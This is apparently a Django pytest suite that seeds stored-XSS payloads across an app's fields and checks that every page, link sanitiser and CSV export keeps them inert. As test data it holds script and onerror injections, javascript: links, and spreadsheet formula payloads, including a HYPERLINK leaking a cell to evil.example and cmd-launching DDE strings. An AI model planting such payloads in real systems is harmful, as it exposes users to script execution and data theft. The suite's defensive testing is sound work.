"""Stored XSS: ~150 payloads in every user text field of every app, then every page and partial of the URL conf
rendered (resolved with the real objects) as an administrator and as a member, with and without htmx — and not
one piece of executable markup in any of them, and no 500."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from django.test import Client

from collab.accounts.models import Department, Role
from collab.accounts.services import api_token_create
from collab.lib.markdown import with_html
from collab.notifications.models import ChatSetting, Notification
from collab.projects import models as pm
from collab.projects.tools import services as tool_services
from liaison import models as lm
from liaison import services as liaison_services
from parkinglot import services as snag_services
from parkinglot.models import Comment
from reviews import models as rm
from reviews import pulse as pulse_service
from reviews import services as review_services
from tests.factories import UserFactory
from tests.foundation.test_access import all_routes
from tests.security.xss import PAYLOADS, executable_markup

pytestmark = pytest.mark.django_db
LONG = "\n\n".join(PAYLOADS)[:9_900]
NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


def short(i: int, limit: int = 200) -> str:
    return PAYLOADS[i % len(PAYLOADS)][:limit]


@pytest.fixture
def world(cmo, cio, liaison, member, admin_user):
    for i, person in enumerate((cmo, cio, liaison, member)):
        person.first_name, person.last_name, person.job_title = short(i, 150), short(i + 7, 150), short(i + 3, 120)
        person.save()
    snags = [
        snag_services.snag_create(raised_by=member, title=short(i), details=LONG, now=NOW - timedelta(days=i % 20))
        for i in range(len(PAYLOADS))
    ]
    snag = snags[0]
    for i in range(5):
        snag_services.comment_add(snag=snag, author=member, body=short(i * 11) + "\n\n" + LONG[:3000])
    snag_services.snag_transition(snag=snags[1], by=liaison, to="answered", note=LONG[:5000])
    snag_services.snag_transition(snag=snags[2], by=liaison, to="parked", note=short(40), parked_for="qbr")
    goal = pm.Goal.objects.create(title=short(5), description=LONG, marketing_owner=cmo, it_owner=cio)
    project = pm.Project.objects.create(
        name=short(9), summary=LONG, goal=goal, marketing_sponsor=cmo, it_sponsor=cio, status="requirements",
        rank=1, health="off_track", health_note=short(13, 300),
    )  # fmt: skip
    pm.ProjectDepartment.objects.create(project=project, department=Department.MARKETING)
    version = pm.RequirementsVersion.objects.create(project=project, number=1, text=LONG, change_note=short(17, 300))
    pm.RequirementsVersion.objects.create(project=project, number=2, text=LONG[::-1], change_note=short(18, 300))
    pm.SignOff.objects.create(
        version=version, department=Department.MARKETING, decision="rejected", comment=LONG, by=cmo
    )
    milestone = pm.Milestone.objects.create(title=short(21), project=project, owner=member, due_date=date(2026, 12, 1))
    cr = pm.ChangeRequest.objects.create(project=project, title=short(23), reason=LONG, raised_by=cmo)
    pm.FeedEntry.objects.create(kind="rank", project=project, text=short(25, 600), reason=short(26, 500), by=cmo)
    series = liaison_services.series_create(
        by=cmo, title=short(29), kind="cmo_cio_sync", cadence="monthly", organiser=cmo, default_attendees=[cio],
        default_length_minutes=60, default_location=short(30, 300),
    )  # fmt: skip
    meeting = liaison_services.meeting_create(
        by=cmo, series=series, start=datetime(2027, 1, 5, 9, 0, tzinfo=UTC), status="planned", now=NOW
    )
    lm.Meeting.objects.filter(pk=meeting.pk).update(notes=LONG, decisions=LONG, location=short(31, 300))
    agenda_item = lm.AgendaItem.objects.create(meeting=meeting, title=short(33), link="javascript:alert(1)", position=9)
    action = lm.ActionItem.objects.create(title=short(35), owner=cio, due_date=date(2026, 12, 1), meeting=meeting)
    assignment = liaison_services.assignment_create(
        by=cio, person=liaison, served_department="marketing", start_date=date(2026, 1, 1), mentor=cmo,
        focus_areas=LONG, end_date=date(2027, 6, 30),
    )  # fmt: skip
    lm.MentorCheckIn.objects.create(assignment=assignment, mentor=cmo, date=date(2026, 10, 1), notes=LONG)
    lm.LogEntry.objects.create(liaison=liaison, date=date(2026, 10, 2), meeting=short(37), learned=LONG)
    review = review_services.review_create(
        by=cmo, year=2026, quarter=4, scheduled_at=datetime(2026, 12, 10, 13, 0, tzinfo=UTC), length_minutes=60,
        location=short(39, 300), facilitator=liaison, attendees=[cmo, cio, member],
    )  # fmt: skip
    rm.Review.objects.filter(pk=review.pk).update(**with_html(rm.Review, {"summary": LONG}))
    rm.MinutesAddendum.objects.create(review=review, text=LONG, by=cmo)
    rm.AgendaItemChange.objects.create(review=review, action="unlocked", item_title="Agenda", detail=short(40, 500),
                                       by=cio)  # an unlock's reason, as the history shows it  # fmt: skip
    item = review_services.item_add(
        review=review, by=cmo, title=short(41), kind="update", team="joint", presenter=None, time_box_minutes=10,
        notes=LONG,
    )  # fmt: skip
    rm.TeamInput.objects.filter(review=review).update(text=LONG)
    rm.Decision.objects.create(review=review, text=LONG, recorded_by=cmo)
    review_action = review_services.action_item_add(
        review=review, by=cmo, title=short(43), owner=member, due_date=date(2027, 1, 10)
    )
    pulse = pulse_service.pulse_open(review=review, by=liaison, opens_at=NOW - timedelta(days=1),
                                     closes_at=NOW + timedelta(days=30))  # fmt: skip
    text_q = pulse.questions.filter(kind="text").first()
    people = [UserFactory(department=Department.IT, role=Role.MEMBER) for _ in range(5)]
    for n, person in enumerate(people):
        pulse_service.pulse_answer(pulse=pulse, user=person, answers={text_q.pk: short(45 + n, 2000)}, now=NOW)
    notification = Notification.objects.create(user=admin_user, kind="test", title=short(51), body=LONG, link="/")
    Notification.objects.create(user=member, kind="test", title=short(52), body=LONG, link="javascript:alert(1)")
    for person in (admin_user, member):  # chat webhook URLs are shown back in the settings form
        ChatSetting.objects.create(
            user=person, slack_webhook_url="https://hooks.example.com/x?a=\"><script>alert(1)</script>",
            teams_webhook_url="https://example.webhook.office.com/'><img src=x onerror=alert(1)>",
        )  # fmt: skip
    feed = liaison_services.calendar_feed_for(user=cmo)
    api_token = api_token_create(user=member, name=short(53, 100)).token
    tool = tool_services.tool_register(
        by=member, name=short(53, 120), vendor=short(54, 120), category="crm", business_owner=member, it_contact=cio,
        adoption="shadow", users_count=3, annual_cost=100, renewal_date=date(2026, 12, 20), holds_customer_data=True,
        rating_note=short(55, 2000), notes=LONG, usage_rating=3, now=NOW,
    )  # fmt: skip
    other_tool = tool_services.tool_register(by=cio, name=short(56, 120), category="crm", now=NOW)
    tool_integration = tool_services.integration_add(tool=tool, by=cio, other=other_tool, note=short(57, 200))
    tool_services.tool_transition(tool=other_tool, by=cio, to="to_retire", retire_by=date(2027, 6, 1),
                                  replacement=tool, projects=[project], note=short(58, 500), now=NOW)  # fmt: skip
    tool_request = tool_services.request_create(
        by=member, title=short(59), need=LONG, category="crm", data_involved=short(60, 2000), now=NOW
    )
    decided_request = tool_services.request_create(by=member, title=short(61), need=LONG, now=NOW)
    tool_services.request_decide(
        request=decided_request, by=cio, decision="use_existing", reason=LONG[:4000], version=1,
        security_review=short(62, 5000), cost_review=short(63, 5000), existing_tool=tool, integrates_with=[tool],
        overlaps=[other_tool], now=NOW,
    )  # fmt: skip
    return {
        "snag": snag, "comment": Comment.objects.filter(snag=snag).first(), "project": project, "goal": goal,
        "milestone": milestone, "cr": cr, "series": series, "meeting": meeting, "agenda_item": agenda_item,
        "action": action, "assignment": assignment, "review": review, "item": item, "review_action": review_action,
        "pulse": pulse, "notification": notification, "token": feed.token, "username": liaison.username,
        "api_token": api_token,
        "tool": tool, "tool_integration": tool_integration, "tool_request": tool_request,
        "decided_request": decided_request,
    }  # fmt: skip


def _by_segment(world: dict) -> dict[str, int]:
    """Which object an ``<int:pk>`` stands for, by the path segment before it."""
    return {
        "assignments": world["assignment"].pk, "meetings": world["meeting"].pk, "actions": world["action"].pk,
        "series": world["series"].pk, "notifications": world["notification"].pk, "projects": world["project"].pk,
        "goals": world["goal"].pk, "milestones": world["milestone"].pk, "ranking": world["project"].pk,
        "pulse": world["pulse"].pk, "items": world["item"].pk, "comments": world["comment"].pk,
        "tokens": world["api_token"].pk,
        "tools": world["tool"].pk, "integrations": world["tool_integration"].pk,
        "requests": world["tool_request"].pk,
    }  # fmt: skip


def resolve(route: str, world: dict) -> str:
    """A concrete URL for a route, with the world's real objects; fails loudly on a parameter it does not know."""
    segments = _by_segment(world)
    review = world["review"]
    out, previous = [], ""
    for part in re.split(r"(<[^>]+>)", route):
        if not part.startswith("<"):
            out.append(part)
            previous = part.rstrip("/").split("/")[-1] or previous
            continue
        name = part.strip("<>").split(":")[-1]
        if name == "pk" and previous == "actions" and route.startswith("reviews/"):
            value: object = world["review_action"].pk
        elif name == "pk":
            assert previous in segments, f"no object for <{name}> after '{previous}' in {route}"
            value = segments[previous]
        else:
            value = {
                "code": world["snag"].code, "username": world["username"], "token": world["token"],
                "year": review.year, "quarter": review.quarter, "team": "it", "key": "snags",
                "item_pk": world["agenda_item"].pk, "cr": world["cr"].pk, "department": "marketing",
                "uidb64": "MQ",
            }.get(name)  # fmt: skip
            assert value is not None, f"no value for <{name}> in {route}"
        out.append(str(value))
    return "/" + "".join(out)


SKIP = re.compile(r"^(accounts/reset/|accounts/logout)")


def test_no_page_or_partial_renders_executable_markup(world, admin_user, member):
    routes = [r for r in all_routes() if not SKIP.match(r)]
    checked = 0
    for user in (admin_user, member):
        client = Client()
        client.force_login(user)
        for route in routes:
            url = resolve(route, world)
            for headers in ({}, {"HX-Request": "true"}):
                response = client.get(url, headers=headers)
                assert response.status_code < 500, (url, user.username, response.status_code)
                kind = response.get("Content-Type", "")
                if response.status_code == 200 and kind.startswith("text/html"):
                    body = b"".join(response.streaming_content) if response.streaming else response.content
                    problems = executable_markup(body.decode())
                    assert problems == [], (url, user.username, headers, problems[:5])
                    checked += 1
    print(f"FIGURE XSS: {len(PAYLOADS)} payloads, {checked} HTML responses checked, 0 executable markup")
    assert checked > 100


def test_exports_keep_payloads_inert(client_as, world, cmo):
    csv_body = b"".join(client_as(cmo).get("/snags/export.csv?status=all").streaming_content).decode()
    assert formula_cells(csv_body)[0] == []
    md = client_as(cmo).get("/reviews/2026/q4/export.md")
    assert md.status_code == 200 and md["Content-Type"].startswith("text/markdown")


@pytest.mark.parametrize(
    ("url", "kept"),
    [("https://example.com/x", True), ("/snags/SNAG-1/", True), ("mailto:a@b.c", True), ("#agenda", True),
     ("javascript:alert(1)", False), (" JaVa\tScRiPt:alert(1)", False), ("//evil.example/x", False),
     ("data:text/html,<b>", False), ("vbscript:x", False)],
)  # fmt: skip
def test_user_links_keep_only_web_mail_and_local_addresses(url, kept):
    from collab.lib.templatetags.collab_tags import safe_url

    assert (safe_url(url) != "#") is kept


def test_a_meeting_agenda_link_must_be_a_web_address(client_as, world, cmo):
    meeting = world["meeting"]
    response = client_as(cmo).post(f"/meetings/{meeting.pk}/agenda/add/", {"title": "x", "link": "javascript:alert(1)"})
    assert response.status_code == 422 and "Use a web address" in response.content.decode()
    assert not lm.AgendaItem.objects.filter(meeting=meeting, title="x").exists()


# --- CSV: spreadsheet formulas ---------------------------------------------------------------
#: a spreadsheet reads a cell that starts with one of these as a formula (tab and CR too: some programs drop them
#: and read what follows); ``collab.lib.csvsafe`` must make every such cell text
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_exports() -> list[str]:
    """Every CSV download of the URL conf (routes ending in ``.csv``)."""
    return ["/" + r for r in all_routes() if r.endswith(".csv")]


@pytest.fixture
def formula_world(cmo, cio, member):
    from collab.projects.tools.models import Tool
    from parkinglot.models import Snag

    project = pm.Project.objects.create(
        name=FORMULA_PAYLOADS[4], marketing_sponsor=cmo, it_sponsor=cio, status="requirements", rank=1
    )
    member.first_name, member.last_name = FORMULA_PAYLOADS[0], ""
    member.save()
    for payload in FORMULA_PAYLOADS:
        snag = snag_services.snag_create(raised_by=member, title="placeholder", project=project)
        Snag.objects.filter(pk=snag.pk).update(title=payload)  # as an import or the admin could store it
        tool = tool_services.tool_register(by=cio, name=f"tool {len(payload)}", category="crm", business_owner=member)
        Tool.objects.filter(pk=tool.pk).update(name=payload, vendor=FORMULA_PAYLOADS[5])


def formula_cells(body: str) -> tuple[list[str], int]:
    """The cells of a CSV file (read with the ``csv`` module) that a spreadsheet would run, and how many cells
    held a payload (escaped)."""
    rows = list(csv.reader(io.StringIO(body, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    escaped = sum(1 for cell in cells if cell.startswith("'") and cell[1:] in FORMULA_PAYLOADS)
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)], escaped


def test_every_csv_export_makes_formula_cells_text(client_as, cmo, formula_world):
    exports = csv_exports()
    assert {"/snags/export.csv", "/tools/export.csv"} <= set(exports)
    for url in exports:
        response = client_as(cmo).get(url, {"status": "all"})
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        dangerous, escaped = formula_cells(body.decode())
        assert dangerous == [], (url, dangerous[:5])
        assert escaped >= len(FORMULA_PAYLOADS), (url, escaped)  # the payloads are in the file, escaped


def test_the_formula_check_catches_an_unescaped_cell():
    dangerous, _ = formula_cells('code,title\r\nSNAG-1,"=1+1"\r\nSNAG-2,"\t=2"\r\nSNAG-3,"\r=3"\r\n')
    assert dangerous == ["=1+1", "\t=2", "\r=3"]


def test_only_the_csv_helper_writes_csv():
    """Every CSV download goes through ``collab.lib.csvsafe``: no other module writes CSV or says text/csv."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("collab", "parkinglot", "liaison", "reviews")
        for path in (root / folder).rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text())
    ]
    assert writers == [], writers
